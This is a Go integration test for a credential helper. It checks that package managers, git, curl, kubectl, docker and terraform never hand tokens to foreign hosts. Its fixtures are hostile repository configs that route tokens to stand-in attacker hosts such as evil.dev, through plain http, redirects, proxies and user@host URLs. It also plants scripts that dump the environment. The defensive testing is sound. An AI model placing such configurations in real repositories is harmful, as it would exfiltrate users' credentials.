package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/tls"
	"encoding/base64"
	"errors"
	"fmt"
	"io"
	"io/fs"
	"log"
	"net"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"clerk-credential-helper/internal/sandbox"
	"clerk-credential-helper/internal/testworld"
)

// recorder stands for every host of the internet, and for every machine between it and here: it is the proxy of every tool,
// and the server behind the proxy, whose certificate all tools trust. It asks all for credentials, and keeps what it
// is sent.
type recorder struct {
	addr        string
	certificate tls.Certificate
	mu          sync.Mutex
	arrived     []arrival
}

// arrival is a request: where it was meant to go, and all that it said.
type arrival struct{ place, text string }

func newRecorder(t *testing.T, certificate tls.Certificate) *recorder {
	t.Helper()
	listener, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	r := &recorder{addr: listener.Addr().String(), certificate: certificate}
	server := &http.Server{Handler: http.HandlerFunc(r.proxy), ErrorLog: log.New(io.Discard, "", 0)}
	go server.Serve(listener)
	t.Cleanup(func() { server.Close() })
	return r
}

// proxy answers for the host of an absolute URL or of the Host field in the clear, and for that of a CONNECT over TLS.
func (r *recorder) proxy(w http.ResponseWriter, req *http.Request) {
	if req.Method != http.MethodConnect {
		r.answer("http://"+req.Host).ServeHTTP(w, req)
		return
	}
	r.keep("http://the proxy", req)
	w.WriteHeader(http.StatusOK)
	conn, buffered, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return
	}
	place := "https://" + strings.TrimSuffix(req.Host, ":443")
	var inner net.Conn = readerConn{conn, buffered.Reader}
	if first, err := buffered.Peek(1); err == nil && first[0] == 0x16 { // a TLS record
		inner = tls.Server(inner, &tls.Config{Certificates: []tls.Certificate{r.certificate}})
	} else {
		place = "http://" + strings.TrimSuffix(req.Host, ":80")
	}
	one := &oneConn{conn: inner, closed: make(chan struct{})}
	server := &http.Server{Handler: r.answer(place), ErrorLog: log.New(io.Discard, "", 0), ConnState: func(_ net.Conn, s http.ConnState) {
		if s == http.StateClosed || s == http.StateHijacked {
			one.Close()
		}
	}}
	server.Serve(one)
}

// readerConn is a connection of which something has been read already.
type readerConn struct {
	net.Conn
	r *bufio.Reader
}

func (c readerConn) Read(p []byte) (int, error) { return c.r.Read(p) }

// oneConn is a listener for one connection.
type oneConn struct {
	conn   net.Conn
	given  bool
	once   sync.Once
	closed chan struct{}
}

func (o *oneConn) Accept() (net.Conn, error) {
	if !o.given {
		o.given = true
		return o.conn, nil
	}
	<-o.closed
	return nil, net.ErrClosed
}
func (o *oneConn) Close() error   { o.once.Do(func() { close(o.closed) }); return nil }
func (o *oneConn) Addr() net.Addr { return o.conn.LocalAddr() }

func (r *recorder) keep(place string, req *http.Request) {
	var text bytes.Buffer
	fmt.Fprintf(&text, "%s %s %s\n", req.Method, req.Host, req.RequestURI)
	req.Header.Write(&text)
	io.Copy(&text, io.LimitReader(req.Body, 1<<20))
	r.mu.Lock()
	defer r.mu.Unlock()
	r.arrived = append(r.arrived, arrival{place, text.String()})
}

// answer is the host at a place. /to/evil and /to/plain lead to another host and to this one over http, with "after-" once
// it has been given a credential. What else it has wants one.
func (r *recorder) answer(place string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.keep(place, req)
		signedIn := len(req.Header.Get("Authorization")) > 40 // pip begins with a user and no password
		to := regexp.MustCompile(`/to/(after-)?(evil|plain)(.*)`).FindStringSubmatch(req.URL.Path)
		switch {
		case to != nil && (signedIn || to[1] == ""):
			target := map[string]string{"evil": "https://evil.dev", "plain": strings.Replace(place, "https:", "http:", 1)}[to[2]]
			http.Redirect(w, req, target+to[3]+"?"+req.URL.RawQuery, http.StatusFound)
		case !signedIn:
			w.Header().Add("WWW-Authenticate", `Basic realm="a"`)
			w.WriteHeader(http.StatusUnauthorized)
		case strings.HasSuffix(req.URL.Path, "/config.json"):
			fmt.Fprintf(w, `{"dl":"%[1]s/dl","api":"%[1]s","auth-required":true}`, place)
		default:
			fmt.Fprintln(w, "{}")
		}
	})
}

// since takes what has arrived.
func (r *recorder) since() []arrival {
	r.mu.Lock()
	defer r.mu.Unlock()
	arrived := r.arrived
	r.arrived = nil
	return arrived
}

// holds reports whether a request holds one of the secrets, in base64 as well.
func (a arrival) holds(secrets []string) bool {
	texts := []string{a.text}
	for _, word := range regexp.MustCompile(`[A-Za-z0-9+/_=-]{16,}`).FindAllString(a.text, -1) {
		word = strings.NewReplacer("-", "+", "_", "/", "=", "").Replace(word)
		if text, err := base64.RawStdEncoding.DecodeString(word); err == nil {
			texts = append(texts, string(text))
		}
	}
	if text, err := url.QueryUnescape(a.text); err == nil {
		texts = append(texts, text)
	}
	return slices.ContainsFunc(texts, func(text string) bool {
		return slices.ContainsFunc(secrets, func(secret string) bool { return len(secret) > 8 && strings.Contains(text, secret) })
	})
}

// packageVectors are repositories that want the token of npm, pnpm, yarn or bun elsewhere, each in one way. A redirect by the
// profile's host from https to http is not here: most of them follow it with the token (docs/tools/pnpm.md).
var packageVectors = []struct {
	name    string
	tools   string // that read such files; empty for all
	refused bool   // by exec; otherwise the tool runs, and asks the other host without a token
	files   map[string]string
}{
	{"our host by http", npmrcReaders, true, map[string]string{".npmrc": "registry=http://npm.pkg.acme.dev/\n"}},
	{"our host by http for a scope", npmrcReaders, true, map[string]string{".npmrc": "@evil:registry=http://npm.pkg.acme.dev/\n", "package.json": evilPackage}},
	{"proxy", npmrcReaders, true, map[string]string{".npmrc": "proxy=http://REC/\n"}},
	{"https-proxy", npmrcReaders, true, map[string]string{".npmrc": "https-proxy=http://REC/\n"}},
	{"strict-ssl", npmrcReaders, true, map[string]string{".npmrc": "strict-ssl=false\n"}},
	{"our variable for another host", npmrcReaders, true, map[string]string{".npmrc": "registry=https://evil.dev/\n//evil.dev/:_authToken=${CLERK_TOKEN_ACME}\n"}},
	{"our variable for an address", npmrcReaders, true, map[string]string{".npmrc": "registry=http://REC/\n//REC/:_authToken=${CLERK_TOKEN_ACME}\n"}},
	{"another variable for another host", npmrcReaders, false, map[string]string{".npmrc": "registry=https://evil.dev/\n//evil.dev/:_authToken=${NPM_CONFIG_USERCONFIG}\n"}},
	{"another host", npmrcReaders, false, map[string]string{".npmrc": "registry=https://evil.dev/\n"}},
	{"a host that begins with ours", npmrcReaders, false, map[string]string{".npmrc": "registry=https://git.acme.dev.evil.dev/\n"}},
	{"our host as a user", npmrcReaders, false, map[string]string{".npmrc": "registry=https://npm.pkg.acme.dev@evil.dev/\n"}},
	{"another host for a scope", npmrcReaders, false, map[string]string{".npmrc": "@evil:registry=https://evil.dev/\n", "package.json": evilPackage}},
	{"an address for a scope", npmrcReaders, false, map[string]string{".npmrc": "@evil:registry=http://REC/\n", "package.json": evilPackage}},
	{"a redirect", npmrcReaders, false, map[string]string{".npmrc": "registry=https://npm.pkg.acme.dev/to/evil/\n"}},
	{"a redirect once the token is there", npmrcReaders, false, map[string]string{".npmrc": "registry=https://npm.pkg.acme.dev/to/after-evil/\n"}},
	{"another host of yarn 4", "yarn4", false, map[string]string{".yarnrc.yml": "npmRegistryServer: \"https://evil.dev\"\nnpmAlwaysAuth: false\n"}},
	{"our host by http of yarn 4", "yarn4", true, map[string]string{".yarnrc.yml": "npmRegistryServer: \"http://npm.pkg.acme.dev\"\nunsafeHttpWhitelist: [\"*\"]\n"}},
	{"a redirect of yarn 4", "yarn4", false, map[string]string{".yarnrc.yml": "npmRegistryServer: \"https://npm.pkg.acme.dev/to/after-evil\"\n"}},
	{"a package by http", "", true, map[string]string{"package.json": `{"name":"a","version":"1.0.0","dependencies":{"hello":"http://npm.pkg.acme.dev/x.tgz"}}`}},
	{"a package of another host", "", false, map[string]string{"package.json": `{"name":"a","version":"1.0.0","dependencies":{"hello":"https://evil.dev/x.tgz"}}`}},
}

const (
	npmrcReaders = "npm pnpm10 pnpm12 yarn1 bun"
	evilPackage  = `{"name":"a","version":"1.0.0","dependencies":{"@evil/a":"1"}}`
)

// TestHostileRepository runs every tool that is installed here, signed in, in a checkout whose files all lead elsewhere: to
// hosts of no profile, to a profile's host over plain http, by way of redirects, proxies and users in addresses. Nothing of
// ours may arrive but at the profile's hosts over TLS, and no program of the checkout may be run by us. Each row has an
// honest call as well, which brings a token to a profile's host: without that it would prove nothing.
func TestHostileRepository(t *testing.T) {
	testworld.Long(t, "it runs many tools")
	if runtime.GOOS == "windows" {
		t.Skip("the programs in the checkout are shell scripts")
	}
	dir := t.TempDir()
	w, vars, err := newWorld(dir, t.Cleanup)
	if err != nil {
		t.Fatal(err)
	}
	foreign := []string{"evil.dev", "git.acme.dev.evil.dev", "evil.example"}
	names := append([]string{"git.acme.dev", "registry.acme.dev", "py.pkg.acme.dev", "go.pkg.acme.dev", "rs.pkg.acme.dev", "npm.pkg.acme.dev"}, foreign...)
	certificate, ca, err := sandbox.Certificate(names...)
	if err != nil {
		t.Fatal(err)
	}
	roots, err := os.ReadFile(vars["SSL_CERT_FILE"])
	if err != nil {
		t.Fatal(err)
	}
	write(t, vars["SSL_CERT_FILE"], string(ca)+string(roots)) // ours first: of two of one name some libraries see only that
	rec := newRecorder(t, certificate)
	proxy, home, work := "http://"+rec.addr, vars["HOME"], filepath.Join(dir, "checkout")
	self, err := exec.LookPath("clerk-credential-helper")
	if err != nil {
		t.Fatal(err)
	}

	// The environment of a user who has set up everything, and to whom "." is a place for programs.
	for name, value := range testworld.Toolchains() {
		vars[name] = value
	}
	for name, value := range map[string]string{
		"PATH": os.Getenv("PATH") + ":.:bin", "TMPDIR": dir, "CLERK_HELPER_TRACE": "1", "CLERK_HELPER_INTERACTIVE": "never",
		"HTTP_PROXY": proxy, "http_proxy": proxy, "HTTPS_PROXY": proxy, "https_proxy": proxy, "ALL_PROXY": proxy, "NO_PROXY": "127.0.0.1", "no_proxy": "127.0.0.1",
		"CURL_CA_BUNDLE": vars["SSL_CERT_FILE"], "PIP_CERT": vars["SSL_CERT_FILE"], "CARGO_HTTP_CAINFO": vars["SSL_CERT_FILE"], "NODE_EXTRA_CA_CERTS": vars["SSL_CERT_FILE"],
		"GOENV": filepath.Join(dir, "goenv"), "GOSUMDB": "off", "GOFLAGS": "-modcacherw", "GOTOOLCHAIN": "local", "GOMODCACHE": filepath.Join(dir, "gomod"),
		"GOCACHE": filepath.Join(dir, "gocache"), "GOAUTH": self + " goauth", "CARGO_HOME": filepath.Join(home, ".cargo"), "CHECKPOINT_DISABLE": "1",
		"PIP_NO_CACHE_DIR": "1", "PIP_DISABLE_PIP_VERSION_CHECK": "1", "PIP_KEYRING_PROVIDER": "subprocess", "PIP_NO_INPUT": "1", "PIP_RETRIES": "0",
		"YARN_HTTP_PROXY": proxy, "YARN_HTTPS_PROXY": proxy, "YARN_HTTPS_CA_FILE_PATH": vars["SSL_CERT_FILE"], "YARN_HTTP_RETRY": "0",
		"YARN_ENABLE_TELEMETRY": "0", "YARN_ENABLE_GLOBAL_CACHE": "0", "YARN_CACHE_FOLDER": filepath.Join(dir, "yarn"), "YARN_ENABLE_SCRIPTS": "0",
		"BUN_INSTALL_CACHE_DIR": filepath.Join(dir, "bun"), "npm_config_update_notifier": "false", "npm_config_ignore_scripts": "true", "pnpm_config_fetch_retries": "0", "pnpm_config_ignore_scripts": "true", "COREPACK_ENABLE_STRICT": "0",
		"KUBECONFIG": filepath.Join(home, "kubeconfig"), "GIT_LFS_SKIP_SMUDGE": "1", "npm_config_fetch_retries": "0", "npm_config_cache": filepath.Join(dir, "npm"),
	} {
		vars[name] = value
	}
	var env []string
	for name, value := range vars {
		env = append(env, name+"="+value)
	}
	call := func(t *testing.T, folder, script string) string {
		t.Helper()
		ctx, cancel := context.WithTimeout(t.Context(), time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, "bash", "-c", script)
		cmd.Dir, cmd.Env, cmd.WaitDelay = folder, env, time.Second
		var out bytes.Buffer
		cmd.Stdout, cmd.Stderr = &out, &out
		cmd.Run() // most are refused; what has arrived is what counts
		if ctx.Err() != nil {
			t.Errorf("%s: it did not end", script)
		}
		return out.String()
	}

	fill := strings.NewReplacer("REC", rec.addr, "HOME", home, "SELF", self)
	furnish := func(folder string, files map[string]string) {
		for name, text := range files {
			write(t, filepath.Join(folder, name), fill.Replace(text))
		}
	}
	furnish(home, map[string]string{
		".terraformrc":           "credentials_helper \"clerk\" {}\n",
		".cargo/config.toml":     "[registries.corp]\nindex = \"sparse+https://rs.pkg.acme.dev/\"\ncredential-provider = [\"cargo-credential-clerk\"]\n[registry]\nglobal-credential-providers = [\"cargo-credential-clerk\"]\n",
		".docker/config.json":    `{"credsStore":"clerk","credHelpers":{"registry.acme.dev":"clerk","evil.dev":"clerk","REC":"clerk","registry.acme.dev:80":"clerk"}}`,
		".config/pip/pip.conf":   "[global]\nindex-url = https://clerk@py.pkg.acme.dev/simple/\n",
		".npmrc":                 "registry=https://npm.pkg.acme.dev/\nalways-auth=true\ncafile=" + vars["SSL_CERT_FILE"] + "\nstrict-ssl=false\n", // pnpm 12 takes no certificate that signs itself
		".yarnrc.yml":            "npmRegistryServer: \"https://npm.pkg.acme.dev\"\nnpmAlwaysAuth: true\n",
		"rclone.conf":            "[dav]\ntype = webdav\nurl = https://git.acme.dev/dav\nvendor = other\nbearer_token_command = SELF bearer https://git.acme.dev\n",
		"kubeconfig":             kubeconfig("https://git.acme.dev", ""),
		".terraform.d/plugins/x": "",
	})
	if err := os.Symlink(self, filepath.Join(home, ".terraform.d/plugins/terraform-credentials-clerk")); err != nil {
		t.Fatal(err)
	}
	victim := filepath.Join(dir, "victim")
	write(t, victim, "as it was\n")
	furnish(work, map[string]string{
		".npmrc":                  "registry=http://npm.pkg.acme.dev/\nproxy=http://REC/\nhttps-proxy=http://REC/\n//REC/:_authToken=${CLERK_TOKEN_ACME}\n//evil.dev/:_authToken=${CLERK_TOKEN_ACME}\n@evil:registry=https://evil.dev/\n@rec:registry=http://REC/\n",
		"package.json":            `{"name":"a","version":"1.0.0","dependencies":{"hello":"1","@evil/a":"1","@rec/a":"1"}}`,
		".cargo/config.toml":      "[http]\nproxy = \"REC\"\n[registries.plain]\nindex = \"sparse+http://rs.pkg.acme.dev/\"\ncredential-provider = [\"cargo-credential-clerk\", \"--profile\", \"acme\"]\n[registries.evil]\nindex = \"sparse+https://evil.dev/\"\ncredential-provider = [\"cargo-credential-clerk\", \"--profile=acme\"]\n[registries.user]\nindex = \"sparse+https://rs.pkg.acme.dev@evil.dev/\"\ncredential-provider = [\"cargo-credential-clerk\"]\n[registries.rec]\nindex = \"sparse+http://REC/\"\ncredential-provider = [\"cargo-credential-clerk\"]\n",
		"Cargo.toml":              "[package]\nname = \"a\"\nversion = \"0.1.0\"\nedition = \"2021\"\n",
		"src/main.rs":             "fn main() {}\n",
		".terraformrc":            "credentials_helper \"clerk\" {\n  args = [\"--profile=acme\"]\n}\nhost \"evil.dev\" {\n  services = { \"modules.v1\" = \"http://git.acme.dev/\" }\n}\n",
		"pip.conf":                "[global]\nindex-url = http://clerk@py.pkg.acme.dev/simple/\n",
		"plain.txt":               "--index-url http://clerk@py.pkg.acme.dev/simple/\n--trusted-host py.pkg.acme.dev\nhello\n",
		"evil.txt":                "--index-url https://clerk@evil.dev/simple/\nhello\n",
		"extra.txt":               "--extra-index-url http://clerk@REC/simple/\n--extra-index-url https://py.pkg.acme.dev@evil.dev/simple/\nhello\n",
		"link.txt":                "--index-url https://evil.dev/simple/\nhello @ http://clerk@git.acme.dev/hello-1.0.tar.gz\n",
		"host.txt":                "--index-url https://evil.dev/simple/\nhello @ https://clerk@git.acme.dev/hello-1.0.tar.gz\n",
		".gitconfig":              "[url \"http://git.acme.dev/\"]\n\tinsteadOf = https://git.acme.dev/\n[http]\n\tproxy = http://REC\n\tproactiveAuth = basic\n[credential]\n\thelper = clerk --profile acme\n\tuseHttpPath = true\n[credential \"http://git.acme.dev\"]\n\thelper = clerk\n",
		".gitmodules":             "[submodule \"a\"]\n\tpath = a\n\turl = http://git.acme.dev/a.git\n[submodule \"b\"]\n\tpath = b\n\turl = https://git.acme.dev@evil.dev/b.git\n[submodule \"c\"]\n\tpath = c\n\turl = https://git.acme.dev.evil.dev/c.git\n",
		".lfsconfig":              "[lfs]\n\turl = http://git.acme.dev/lfs\n",
		"large.bin":               "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 12345\n",
		".gitattributes":          "*.bin filter=lfs diff=lfs merge=lfs -text\n",
		"go.mod":                  "module a\n\ngo 1.24\n\nrequire evil.dev/x v1.0.0\n\nreplace evil.dev/x => git.acme.dev.evil.dev/x v1.0.0\n",
		"main.go":                 "package main\n\nimport _ \"evil.dev/x\"\n\nfunc main() {}\n",
		"main.tf":                 "module \"a\" {\n  source = \"evil.dev/acme/hello/null\"\n}\nmodule \"b\" {\n  source = \"http://git.acme.dev/b.zip\"\n}\nmodule \"c\" {\n  source = \"git::http://git.acme.dev/c.git\"\n}\nmodule \"d\" {\n  source = \"git.acme.dev.evil.dev/acme/hello/null\"\n}\n",
		"clerk.toml":              "[profiles.acme]\nissuer = \"http://REC\"\nclient_id = \"x\"\nhosts = [\"evil.dev\", \"git.acme.dev.evil.dev\", \"REC\"]\n",
		"config.toml":             "[profiles.evil]\nissuer = \"http://REC\"\nclient_id = \"x\"\nhosts = [\"evil.dev\"]\n",
		"clerk-credential-helper": "#!/bin/sh\necho \"$0 $*\" >>\"HOME/ran\"\n",
		"kube-evil":               kubeconfig("https://evil.dev", ""),
		"kube-plain":              kubeconfig("http://git.acme.dev", ""),
		"kube-proxy":              kubeconfig("http://git.acme.dev", "http://REC"),
		"kube-user":               kubeconfig("https://git.acme.dev@evil.dev", ""),
		"kube-bare":               kubeconfig("git.acme.dev", ""),
		".curlrc":                 "proxy = http://REC\nlocation-trusted\n",
		".netrc":                  "machine git.acme.dev login a password b\n",
	})
	// The user's clone of it.
	call(t, work, "git init -q && git add -A -f . && git -c user.name=a -c user.email=a@b commit -qm a")
	for i, name := range []string{"a", "b", "c"} {
		call(t, work, fmt.Sprintf("git update-index --add --cacheinfo 160000,%040d,%s", i+1, name))
	}
	// What our variables' values would be called, and programs that we look for, in a folder of the PATH.
	for _, name := range []string{"1", "true", "file", "always", "never", "auto", "token"} {
		if err := os.Symlink(victim, filepath.Join(work, name)); err != nil {
			t.Fatal(err)
		}
	}
	for _, name := range []string{"keyring", "xdg-open", "sensible-browser", "wslview", "docker-credential-secretservice", "docker-credential-pass", "git-credential-clerk", "browser", "node"} {
		for _, folder := range []string{work, filepath.Join(work, "bin")} {
			write(t, filepath.Join(folder, name), "#!/bin/sh\necho \"$0 $*\" >>'"+filepath.Join(home, "ran")+"'\nenv >>'"+filepath.Join(home, "ran")+"'\n")
			chmod(t, filepath.Join(folder, name), 0o755)
		}
	}
	before := listing(t, work)

	login := exec.Command(self, "login")
	login.Dir, login.Env = work, append(slices.Clone(env), "CLERK_HELPER_INTERACTIVE=always")
	if out, err := login.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	secrets := w.Clerk.Issued()
	if len(secrets) < 3 {
		t.Fatalf("only %d secrets were issued", len(secrets))
	}
	ours := func(place string) bool {
		host, ok := strings.CutPrefix(place, "https://")
		return ok && (host == "git.acme.dev" || host == "registry.acme.dev" || strings.HasSuffix(host, ".pkg.acme.dev"))
	}

	type row struct {
		tool    string
		honest  string // brings a token to a profile's host
		hostile []string
	}
	// A package manager gets its token from exec. Each of its repositories has one vector, since the first is refused, and a
	// folder for each manager.
	refused := map[string]bool{} // whether exec must refuse a command
	install := func(tool string) row {
		command := func(name string, files map[string]string) string {
			folder := filepath.Join(dir, "packages", tool, name)
			furnish(folder, map[string]string{"package.json": `{"name":"a","version":"1.0.0","dependencies":{"hello":"1"}}`})
			furnish(folder, files)
			return "cd '" + folder + "' && clerk-credential-helper exec -- " + tool + " install"
		}
		all := row{tool: tool, honest: command("honest", nil)}
		for _, v := range packageVectors {
			if v.tools == "" || slices.Contains(strings.Fields(v.tools), tool) {
				hostile := command(strings.ReplaceAll(v.name, " ", "-"), v.files)
				all.hostile, refused[hostile] = append(all.hostile, hostile), v.refused
			}
		}
		whole := "clerk-credential-helper exec -- " + tool + " install" // the whole checkout
		all.hostile, refused[whole] = append(all.hostile, whole), true
		return all
	}

	for _, tt := range []row{
		{"git", "git ls-remote https://git.acme.dev/a.git", []string{
			"git submodule update --init",
			"git ls-remote http://git.acme.dev/a.git",
			"git ls-remote http://git.acme.dev:443/a.git",
			"git ls-remote https://evil.dev/a.git",
			"git ls-remote https://git.acme.dev@evil.dev/a.git",
			"git ls-remote https://clerk@evil.dev/a.git",
			`git ls-remote 'https://evil.dev\@git.acme.dev/a.git'`,
			"git ls-remote https://git.acme.dev.evil.dev/a.git",
			"git -c include.path=$PWD/.gitconfig ls-remote https://git.acme.dev/a.git",
			"git -c include.path=$PWD/.gitconfig -c http.sslVerify=false ls-remote https://evil.dev/a.git",
			"git ls-remote https://git.acme.dev/to/plain/a.git",
			"git ls-remote https://git.acme.dev/to/evil/a.git",
			"git ls-remote https://git.acme.dev/to/after-evil/a.git",
			"git -c http.followRedirects=true ls-remote https://git.acme.dev/to/after-plain/a.git",
			"git ls-remote http://REC/a.git",
		}},
		{"git-lfs", "git -c lfs.url=https://git.acme.dev/lfs lfs fetch", []string{
			"git lfs fetch", "git lfs push origin HEAD", "git -c lfs.url=https://evil.dev/lfs lfs fetch", "git -c lfs.url=https://git.acme.dev@evil.dev/lfs lfs fetch",
		}},
		{"curl", "curl -s -K <(clerk-credential-helper curl-config https://git.acme.dev) https://git.acme.dev/a", []string{
			"curl -sL -K <(clerk-credential-helper curl-config https://git.acme.dev) https://git.acme.dev/to/after-plain/a",
			"curl -sL -K <(clerk-credential-helper curl-config https://git.acme.dev) https://git.acme.dev/to/after-evil/a",
			"curl -s -K <(clerk-credential-helper curl-config http://git.acme.dev) http://git.acme.dev/a",
			"curl -s -K <(clerk-credential-helper curl-config git.acme.dev) git.acme.dev/a",
			"curl -s -K <(clerk-credential-helper curl-config https://evil.dev) https://evil.dev/a",
			"curl -s --netrc-file <(clerk-credential-helper netrc git.acme.dev) http://git.acme.dev/a",
			"curl -s -H \"$(clerk-credential-helper headers git.acme.dev)\" git.acme.dev/a",
		}},
		{"go", "GOPROXY=https://go.pkg.acme.dev GOFLAGS=-mod=mod go list -m -versions acme.dev/hello", []string{
			"GOPROXY=direct go list -m all", "GOPROXY=direct GOFLAGS=-mod=mod go build ./...",
			"cd HOME && GOPROXY=https://evil.dev go list -m -versions x.dev/y", "cd HOME && GOPROXY=http://go.pkg.acme.dev go list -m -versions x.dev/y", "cd HOME && GOPROXY=http://REC go list -m -versions x.dev/y",
			"cd HOME && GOPROXY=https://go.pkg.acme.dev@evil.dev go list -m -versions x.dev/y", "cd HOME && GOPROXY=https://go.pkg.acme.dev.evil.dev go list -m -versions x.dev/y",
			"GOPROXY=direct GOINSECURE=git.acme.dev go list -m git.acme.dev/x@latest",
			"cd HOME && GOPROXY=https://go.pkg.acme.dev/to/evil go list -m -versions x.dev/y", "cd HOME && GOPROXY=https://go.pkg.acme.dev/to/after-evil go list -m -versions x.dev/y",
			"cd HOME && GOPROXY=https://go.pkg.acme.dev/to/plain go list -m -versions x.dev/y",
			"cd HOME && GOPROXY=https://go.pkg.acme.dev/to/after-plain go list -m -versions x.dev/y",
		}},
		{"cargo", "cd HOME && cargo search --registry corp hello; cargo info --registry corp hello", []string{
			"cargo info --registry plain hello", "cargo info --registry evil hello", "cargo info --registry user hello", "cargo info --registry rec hello",
			"cargo search --registry plain hello", "cargo search --registry evil hello", "cargo login --registry evil x", "cargo publish --allow-dirty --registry evil", "cargo publish --allow-dirty --registry plain",
		}},
		// pip itself keeps passwords by host, not by scheme: an http link to the host of the user's own index is not here
		// (docs/tools/pip.md).
		{"pip3", "python3 -m pip download --no-deps -d d hello", []string{
			"python3 -m pip download --no-deps -d d -r plain.txt", "python3 -m pip download --no-deps -d d -r evil.txt", "python3 -m pip download --no-deps -d d --index-url https://evil.dev/simple -r extra.txt",
			"python3 -m pip download --no-deps -d d -r link.txt", "PIP_CONFIG_FILE=pip.conf python3 -m pip download --no-deps -d d --trusted-host py.pkg.acme.dev hello",
			"python3 -m pip download --no-deps -d d --index-url https://clerk@py.pkg.acme.dev/to/evil/simple/ hello", "python3 -m pip download --no-deps -d d --index-url https://clerk@py.pkg.acme.dev/to/after-evil/simple/ hello",
			"python3 -m pip download --no-deps -d d --proxy http://REC -r plain.txt", "python3 -m pip download --no-deps -d d git+http://git.acme.dev/a.git",
		}},
		install("npm"), install("pnpm10"), install("pnpm12"), install("yarn1"), install("yarn4"), install("bun"),
		{"rclone", "rclone --config HOME/rclone.conf --retries 1 --low-level-retries 1 lsf dav:", []string{
			"rclone --config HOME/rclone.conf --retries 1 --low-level-retries 1 --webdav-bearer-token-command 'SELF bearer http://git.acme.dev' --webdav-url http://git.acme.dev/dav lsf dav:",
			"rclone --config HOME/rclone.conf --retries 1 --low-level-retries 1 --webdav-bearer-token-command 'SELF bearer https://evil.dev' --webdav-url https://evil.dev/dav lsf dav:",
		}},
		{"skopeo", "skopeo inspect docker://registry.acme.dev/a/b", []string{
			"skopeo inspect docker://evil.dev/a/b", "skopeo inspect docker://git.acme.dev.evil.dev/a/b", "skopeo inspect --tls-verify=false docker://registry.acme.dev:80/a/b",
			"skopeo inspect --tls-verify=false docker://REC/a/b",
		}},
		{"docker", "docker manifest inspect registry.acme.dev/a/b", []string{
			"docker manifest inspect evil.dev/a/b", "docker manifest inspect --insecure registry.acme.dev:80/a/b", "docker manifest inspect --insecure REC/a/b",
		}},
		{"kubectl", "kubectl get --raw /api", []string{
			"kubectl --kubeconfig kube-evil get --raw /api", "kubectl --kubeconfig kube-plain get --raw /api", "kubectl --kubeconfig kube-proxy get --raw /api",
			"kubectl --kubeconfig kube-user get --raw /api", "kubectl --kubeconfig kube-bare get --raw /api",
		}},
		{"terraform", "mkdir -p HOME/tf && cd HOME/tf && echo 'module \"a\" { source = \"registry.acme.dev/a/b/c\" }' >main.tf && terraform get -no-color", []string{
			"terraform get -no-color", "terraform init -no-color -backend=false",
		}},
	} {
		t.Run(tt.tool, func(t *testing.T) {
			if tt.honest == "" {
				t.Fatal("it has no honest call")
			}
			testworld.Need(t, tt.tool)
			accepted := func() {
				if strings.HasPrefix(tt.tool, "git") { // else git gets nothing for a while: the recorder refuses each token
					call(t, home, fill.Replace(`printf 'protocol=https\nhost=git.acme.dev\nusername=clerk\npassword=%s\n' "$(SELF token acme)" | SELF store`))
				}
			}
			accepted()
			rec.since()
			out := call(t, work, fill.Replace(tt.honest))
			came := slices.ContainsFunc(rec.since(), func(a arrival) bool { return ours(a.place) && a.holds(secrets) })
			if !came {
				t.Errorf("%s: no token came to the profile's host, which proves nothing:\n%s", tt.honest, out)
			}
			for _, hostile := range tt.hostile {
				accepted()
				out := call(t, work, fill.Replace(hostile))
				arrived := rec.since()
				for _, a := range arrived {
					if a.holds(secrets) && !ours(a.place) {
						t.Errorf("%s: a secret of ours arrived at %s:\n%s\n%s", hostile, a.place, a.text, out)
					}
				}
				var places []string
				for _, a := range arrived {
					places = append(places, a.place)
				}
				places = slices.Compact(places)
				t.Logf("%s: %q", hostile, places)
				must, packages := refused[hostile]
				switch says := strings.Contains(out, "no token is handed out"); {
				case !packages:
				case must && (!says || places != nil):
					t.Errorf("%s: it was not refused:\n%s", hostile, out)
				case !must && (says || places == nil):
					t.Errorf("%s: the package manager asked for nothing, which proves nothing:\n%s", hostile, out)
				}
			}
		})
	}
	if text, err := os.ReadFile(filepath.Join(home, "ran")); err == nil {
		t.Errorf("programs of the checkout were run:\n%s", text)
	} else if !errors.Is(err, fs.ErrNotExist) {
		t.Error(err)
	}
	if text, err := os.ReadFile(victim); err != nil || string(text) != "as it was\n" {
		t.Errorf("a link was followed: %q, %v", text, err)
	}
	for name, text := range listing(t, work) {
		if old, ok := before[name]; ok && old != text {
			t.Errorf("%s has been changed", name)
		}
	}
}

// listing is what a folder holds but for git's own files and what tools put there.
func listing(t *testing.T, folder string) map[string]string {
	t.Helper()
	all := map[string]string{}
	err := filepath.WalkDir(folder, func(path string, e fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if e.IsDir() && e.Name() == ".git" {
			return fs.SkipDir
		}
		if e.Type().IsRegular() {
			text, err := os.ReadFile(path)
			all[path] = string(text)
			return err
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return all
}

// kubeconfig is one of a cluster whose user is ours.
func kubeconfig(server, proxy string) string {
	if proxy != "" {
		proxy = "\n    proxy-url: " + proxy
	}
	return fmt.Sprintf(`apiVersion: v1
kind: Config
current-context: a
contexts: [{name: a, context: {cluster: a, user: a}}]
clusters:
- name: a
  cluster:
    server: %s%s
users:
- name: a
  user:
    exec: {apiVersion: client.authentication.k8s.io/v1, command: SELF, args: [kube], interactiveMode: Never, provideClusterInfo: true}
`, server, proxy)
}
